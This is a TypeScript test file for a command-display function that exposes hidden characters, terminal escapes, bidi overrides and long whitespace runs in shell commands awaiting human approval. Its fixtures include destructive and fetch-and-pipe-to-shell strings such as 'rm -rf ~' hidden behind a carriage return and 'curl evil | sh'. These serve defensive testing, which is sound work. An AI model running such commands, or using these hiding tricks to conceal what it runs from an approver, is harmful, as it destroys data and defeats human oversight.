/**
 * "What the human sees is what runs" (docs/security.md): displayCommand shows
 * commands that hide, overwrite, reorder or push text out of sight escaped,
 * with warnings, length and hash; everything else verbatim. A decoder of
 * the display proves it unambiguous: an escaped display reads back to the
 * exact command.
 */
import { createHash, randomInt } from 'node:crypto';
import {
  DETAILS_COMMAND_CHARS,
  SUMMARY_MAX_CHARS,
  codePoints,
  commandDetails,
  commandSummary,
  displayCommand,
  jsonEscapeOf,
  markdownCode,
  pendingApproval,
  safeText,
  shortHash,
} from '../../../src/shared/display';

/** Reads an escaped display back into the command (the inverse of the escaping rules). */
function decode(text: string): string {
  let out = '';
  let i = 0;
  const unit = (s: string): string => {
    if (s === 'n') return '\n';
    if (s === 'r') return '\r';
    if (s === 't') return '\t';
    if (s === '\\') return '\\';
    throw new Error(`unknown escape \\${s}`);
  };
  const escapeAt = (at: number): { ch: string; end: number } => {
    const c = text[at + 1]!;
    if (c === 'x') return { ch: String.fromCharCode(parseInt(text.slice(at + 2, at + 4), 16)), end: at + 4 };
    if (c === 'u' && text[at + 2] === '{') {
      const close = text.indexOf('}', at);
      return { ch: String.fromCodePoint(parseInt(text.slice(at + 3, close), 16)), end: close + 1 };
    }
    if (c === 'u') return { ch: String.fromCharCode(parseInt(text.slice(at + 2, at + 6), 16)), end: at + 6 };
    return { ch: unit(c), end: at + 2 };
  };
  while (i < text.length) {
    const c = text[i]!;
    if (c === '\\') {
      const e = escapeAt(i);
      out += e.ch;
      i = e.end;
    } else if (c === '⟨') {
      const close = text.indexOf('⟩', i);
      const body = text.slice(i + 1, close);
      const spaces = /^(\d+) spaces$/.exec(body);
      if (spaces) out += ' '.repeat(Number(spaces[1]));
      else {
        const m = /^(\d+) × (\\.*)$/.exec(body);
        if (!m) throw new Error(`bad marker ${body}`);
        out += escapeAt(i + 1 + body.indexOf('\\')).ch.repeat(Number(m[1]));
      }
      i = close + 1;
    } else {
      const cp = text.codePointAt(i)!;
      out += String.fromCodePoint(cp);
      i += cp > 0xffff ? 2 : 1;
    }
  }
  return out;
}

/** Characters that must never appear raw in a display (or in safeText output, but for \n and \t there). */
const RAW_DANGER =
  /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060-\u2069\u061c\ufeff\u00ad\u00a0\u3164]|\p{Cf}|[\ud800-\udfff]/u; // with the u flag, the last class matches lone surrogates only

const nodeSha = (s: string): string => createHash('sha256').update(s, 'utf8').digest('hex');

describe('displayCommand: commands that hide what runs', () => {
  test('a carriage return and an ANSI erase-line: both shown, with warnings', () => {
    const d = displayCommand('echo safe\r\x1b[2Krm -rf ~');
    expect(d.text).toBe('echo safe\\r\\x1b[2Krm -rf ~');
    expect(d.warnings).toEqual([
      'contains a carriage return (\\r)',
      'contains an escape character (\\x1b, starts terminal escape sequences)',
    ]);
    expect(d).toMatchObject({ length: 22, cut: false, sha256: nodeSha('echo safe\r\x1b[2Krm -rf ~') });
  });

  test('a right-to-left override cannot reorder the rest', () => {
    const d = displayCommand('ls #\u202e fdp.txt');
    expect(d.text).toBe('ls #\\u202e fdp.txt');
    expect(d.warnings).toEqual(['contains bidi control U+202E']);
  });

  test('every bidi control, isolates included, is named', () => {
    const d = displayCommand('a\u2066b\u2067c\u2068d\u2069e\u202af\u202bg\u202ch\u202di\u200ej\u200fk\u061cl');
    expect(d.text).toBe('a\\u2066b\\u2067c\\u2068d\\u2069e\\u202af\\u202bg\\u202ch\\u202di\\u200ej\\u200fk\\u061cl');
    expect(d.warnings).toEqual(['contains 11 bidi controls U+2066, U+2067, U+2068, U+2069 and 7 more']);
  });

  test('200 spaces cannot push the tail past the screen edge', () => {
    const d = displayCommand(`cat a${' '.repeat(200)}; curl evil`);
    expect(d.text).toBe('cat a⟨200 spaces⟩; curl evil');
    expect(d.warnings).toEqual(['contains a run of 200 spaces']);
    expect(d.length).toBe(216);
  });

  test('a line separator is not a line break on a terminal, but may be one elsewhere', () => {
    const d = displayCommand('git status\u2028rm -rf x');
    expect(d.text).toBe('git status\\u2028rm -rf x');
    expect(d.warnings).toEqual(['contains line/paragraph separator U+2028']);
    expect(displayCommand('a\u2029b\u0085c').text).toBe('a\\u2029b\\x85c');
  });

  test('C0 controls, DEL, C1 controls (U+009B is a one-byte CSI)', () => {
    const d = displayCommand('a\u0000b\u0007c\u007fd\u009b31me\u0008');
    expect(d.text).toBe('a\\x00b\\x07c\\x7fd\\x9b31me\\x08');
    expect(d.warnings).toEqual(['contains C1 control character U+009B', 'contains 4 control characters U+0000, U+0007, U+007F, U+0008']);
  });

  test('zero-width and other invisible format characters (Cf), tags included', () => {
    expect(displayCommand('rm\u200b -rf\u200c /\u200d\ufeff\u2060').warnings).toEqual([
      'contains 5 zero-width characters U+200B, U+200C, U+200D, U+FEFF and 1 more',
    ]);
    const tags = displayCommand('echo hi\u{e0001}\u{e0072}\u{e006d}');
    expect(tags.text).toBe('echo hi\\u{e0001}\\u{e0072}\\u{e006d}');
    expect(tags.warnings).toEqual(['contains 3 invisible format characters U+E0001, U+E0072, U+E006D']);
    expect(displayCommand('rm -r\u00adf x').text).toBe('rm -r\\xadf x'); // soft hyphen
    expect(displayCommand('a\u0600b\u206ac').warnings).toEqual(['contains 2 invisible format characters U+0600, U+206A']);
  });

  test('look-alike spaces, fillers, variation selectors and private-use characters', () => {
    expect(displayCommand('rm\u00a0-rf x').text).toBe('rm\\xa0-rf x');
    expect(displayCommand('a\u3000b\u2009c').warnings).toEqual(['contains 2 non-ASCII spaces U+3000, U+2009']);
    expect(displayCommand('echo \u3164; rm x').warnings).toEqual(['contains invisible character U+3164']);
    expect(displayCommand('a\ufe0fb\u{e0100}').text).toBe('a\\ufe0fb\\u{e0100}');
    expect(displayCommand('x\ue000').warnings).toEqual(['contains private-use character U+E000']);
  });

  test('a lone surrogate (not valid UTF-16) is shown and named', () => {
    const d = displayCommand('echo \ud800 \udfff');
    expect(d.text).toBe('echo \\ud800 \\udfff');
    expect(d.warnings).toEqual(['contains 2 lone surrogates U+D800, U+DFFF (not valid UTF-16; sent as U+FFFD)']);
  });

  test('a multi-line command is one line, its breaks and tabs shown', () => {
    const d = displayCommand('cd app\n\tnpm test\n');
    expect(d.text).toBe('cd app\\n\\tnpm test\\n');
    expect(d.warnings).toEqual(['contains 2 line breaks (\\n)', 'contains a tab (\\t)']);
  });

  test('runs of one escaped character are counted, not spelled out', () => {
    expect(displayCommand(`a${'\u200b'.repeat(50)}b`).text).toBe('a⟨50 × \\u200b⟩b');
    expect(displayCommand(`a${'\n'.repeat(8)}b${'\n'.repeat(7)}`).text).toBe(`a⟨8 × \\n⟩b${'\\n'.repeat(7)}`);
    const two = displayCommand(`a${' '.repeat(8)}b${' '.repeat(30)}c${' '.repeat(7)}d`);
    expect(two.text).toBe(`a⟨8 spaces⟩b⟨30 spaces⟩c${' '.repeat(7)}d`);
    expect(two.warnings).toEqual(['contains 2 runs of 8 or more spaces (the longest 30)']);
  });
});

describe('displayCommand: non-ASCII punctuation and symbols', () => {
  // Bash reads each as a letter, and a person may read it as the shell character it resembles.
  test.each(['echo done 😀', 'echo \u2211 x', 'echo \u00abx\u00bb', 'echo a \u2014 b'])('%s is flagged', (command) => {
    const d = displayCommand(command);
    expect(d.warnings.join('\n')).toMatch(/look-alike/);
    expect(d.text).toMatch(/^[\x20-\x7e]+$/);
  });
  test("prose keeps them: safeText changes nothing in Claude's words", () => {
    expect(safeText('it’s done 😀 — «ok» ∑')).toBe('it’s done 😀 — «ok» ∑');
  });
});

describe('displayCommand: nothing to escape', () => {
  test.each([
    'ls -la',
    'git status && npm test | tee out.txt',
    `grep -E '\\d+\\s*$' file.txt`,
    `printf 'a\\nb\\x1b[0m'`, // backslashes typed as text, no control character: verbatim
    'echo "héllo wörld" 日本語 𠀀', // letters of any script
    'awk \'{ print $1 }\' <<< "a  b       c"', // 7 spaces stay
    `find . -name '*.ts' -exec wc -l {} +`,
    'cp 2024 גיבוי', // a number after a left-to-right letter stays left to right: drawn in order
    'grep שלום src/2024.txt', // a left-to-right letter between the word and the number
  ])('%s is shown as it is', (command) => {
    const d = displayCommand(command);
    expect(d).toEqual({ text: command, warnings: [], length: codePoints(command), cut: false, sha256: nodeSha(command) });
  });
});

describe('displayCommand: what the bidi algorithm would reorder, and two-letter skeletons', () => {
  test.each([
    ['grep שלום 2>/dev/null', 'the word and the 2 trade places: `grep 2 שלום>/dev/null`'],
    ['cat א2024.csv', 'a number right after the word is drawn before it'],
    ['cat œuvre.txt', 'œ has the skeleton "oe": flagged beside ASCII letters, the cost of catching bꝏks'],
    ['ls mæin', 'æ, skeleton "ae"'],
  ])('%s is flagged (%s)', (command) => {
    const d = displayCommand(command);
    expect({ escaped: d.text !== command, warned: d.warnings.length > 0 }).toEqual({ escaped: true, warned: true });
  });
});

describe('displayCommand: unambiguous', () => {
  test('once escaped, every backslash is doubled: a typed \\n is not a line break', () => {
    const d = displayCommand("printf 'a\\nb'\nls");
    expect(d.text).toBe("printf 'a\\\\nb'\\nls");
    expect(decode(d.text)).toBe("printf 'a\\nb'\nls");
  });

  test('a fake escape typed by an attacker is told apart from a real one', () => {
    const fake = displayCommand('echo ok\\r\u202e'); // a typed "\r" next to a real bidi control
    const real = displayCommand('echo ok\r\u202e');
    expect(fake.text).toBe('echo ok\\\\r\\u202e');
    expect(real.text).toBe('echo ok\\r\\u202e');
    expect(fake.warnings).toEqual(['contains bidi control U+202E']);
  });

  test("the run markers in a command are escaped, so a marker is always the display's own", () => {
    const d = displayCommand('echo ⟨200 spaces⟩');
    expect(d.text).toBe('echo \\u27e8200 spaces\\u27e9');
    expect(d.warnings).toEqual(['contains ⟨ or ⟩ (shown as \\u27e8, \\u27e9: the display marks runs with them)']);
  });

  test('2,000 random commands: no dangerous character is ever shown raw, and an escaped display decodes to the command', () => {
    const pool = [
      'a',
      'Z',
      '0',
      ' ',
      ' ',
      ' ',
      '\\',
      '⟨',
      '⟩',
      'n',
      '\n',
      '\r',
      '\t',
      '\x1b',
      '\x00',
      '\x7f',
      '\x85',
      '\x9b',
      '\u2028',
      '\u202e',
      '\u2066',
      '\u200b',
      '\ufeff',
      '\u00a0',
      '\u00ad',
      '\u3164',
      '\ufe0f',
      'é',
      '日',
      '😀',
      '\u{e0041}',
      '\ud800',
      '\udc00',
      '\ue000',
      '{',
      '}',
      'x',
    ];
    for (let i = 0; i < 2_000; i++) {
      let command = '';
      const n = randomInt(1, 60);
      for (let j = 0; j < n; j++) command += pool[randomInt(pool.length)]!.repeat(randomInt(10) === 0 ? randomInt(1, 20) : 1);
      const d = displayCommand(command);
      expect(RAW_DANGER.test(d.text)).toBe(false);
      expect(d.sha256).toBe(nodeSha(command));
      expect(d.length).toBe(Array.from(command).length);
      if (d.warnings.length === 0) expect(d.text).toBe(command);
      else expect(decode(d.text)).toBe(command);
    }
  });
});

describe('displayCommand: cut', () => {
  test('maxChars cuts in code points with a final …, never inside an escape or a marker', () => {
    const d = displayCommand(`echo ${'x'.repeat(100)}`, { maxChars: 20 });
    expect(d).toMatchObject({ text: `echo ${'x'.repeat(14)}…`, cut: true, length: 105, warnings: [] });
    const e = displayCommand('abc\u202edef', { maxChars: 6 });
    expect(e.text).toBe('abc…'); // `\u202e` (6 characters) does not fit: it is left out whole
    expect(displayCommand('ab𠀀𠀀𠀀𠀀', { maxChars: 5 }).text).toBe('ab𠀀𠀀…');
    expect(displayCommand('short', { maxChars: 5 })).toMatchObject({ text: 'short', cut: false });
  });

  test('the warnings cover the whole command, past the cut too', () => {
    const d = displayCommand(`echo ${'a'.repeat(100)}\r\x1b[2Kcurl evil | sh`, { maxChars: 30 });
    expect(d.cut).toBe(true);
    expect(d.text).not.toContain('\\r');
    expect(d.warnings).toEqual([
      'contains a carriage return (\\r)',
      'contains an escape character (\\x1b, starts terminal escape sequences)',
    ]);
  });
});

describe('summaries, details and the pending approval', () => {
  test('activity summary: key part first, escaped, in a code span, under 100 characters (C26)', () => {
    expect(commandSummary('git status', 17)).toBe('bash #17: `git status`');
    expect(commandSummary('git status', null)).toBe('bash: `git status`');
    expect(commandSummary('echo safe\r\x1b[2Krm -rf ~', 3)).toBe('bash #3: `echo safe\\r\\x1b[2Krm -rf ~`');
    const long = commandSummary(`cat ${'a\u202e'.repeat(2_500)}`, 1234);
    expect(codePoints(long)).toBeLessThanOrEqual(SUMMARY_MAX_CHARS);
    expect(long).toMatch(/^bash #1234: `cat a\\u202ea/);
    expect(long.endsWith('…`')).toBe(true);
    expect(RAW_DANGER.test(long)).toBe(false);
  });

  test('details: a code span, with length, hash and warnings when escaped or cut', () => {
    expect(commandDetails('npm test')).toBe('`npm test`');
    const sha = nodeSha('ls #\u202e fdp.txt');
    expect(commandDetails('ls #\u202e fdp.txt')).toBe(
      `\`ls #\\u202e fdp.txt\` (13 characters, sha256 ${sha.slice(0, 12)}; ⚠ \`contains bidi control U+202E\`)`,
    );
    const long = commandDetails('y'.repeat(500));
    expect(long).toMatch(new RegExp(`^\`y{${DETAILS_COMMAND_CHARS - 1}}…\` \\(500 characters, sha256 [0-9a-f]{12}\\)$`));
  });

  test('a backtick in a command cannot close the code span (the UI renders details as markdown)', () => {
    expect(markdownCode('echo `id`')).toBe('`` echo `id` ``');
    expect(markdownCode('a ``` b')).toBe('```` a ``` b ````');
    expect(commandDetails('echo `x` [link](http://evil)')).toBe('`` echo `x` [link](http://evil) ``');
  });

  test('pendingApproval carries the display, the warnings and the full hash', () => {
    const p = pendingApproval({ toolUseId: 'toolu_1', command: 'echo a\rb', requestedAt: '2026-01-01T00:00:00.000Z' });
    expect(p).toEqual({
      toolUseId: 'toolu_1',
      command: 'echo a\rb',
      requestedAt: '2026-01-01T00:00:00.000Z',
      display: 'echo a\\rb',
      warnings: ['contains a carriage return (\\r)'],
      commandSha256: nodeSha('echo a\rb'),
    });
    expect(shortHash(p.commandSha256)).toBe(p.commandSha256.slice(0, 12));
  });
});

describe('text that is not a command', () => {
  test('safeText escapes what a terminal would act on, keeps line breaks and tabs of multi-line text', () => {
    expect(safeText('ok\n\tdone\x1b[31m red\r\u202e\u0007')).toBe('ok\n\tdone\\x1b[31m red\\r\\u202e\\x07');
    expect(safeText('a\nb', false)).toBe('a\\nb');
    expect(safeText('plain \\n text é 😀')).toBe('plain \\n text é 😀');
  });

  test('jsonEscapeOf: JSON made terminal-safe parses to the same value', () => {
    const value = { s: 'a\x1b[2K\u202e\u2028\x7f\x9b\u{e0041}b\n' };
    const json = JSON.stringify(value).replace(/[\s\S]/gu, (ch) => jsonEscapeOf(ch) ?? ch);
    expect(RAW_DANGER.test(json)).toBe(false);
    expect(JSON.parse(json)).toEqual(value);
  });
});
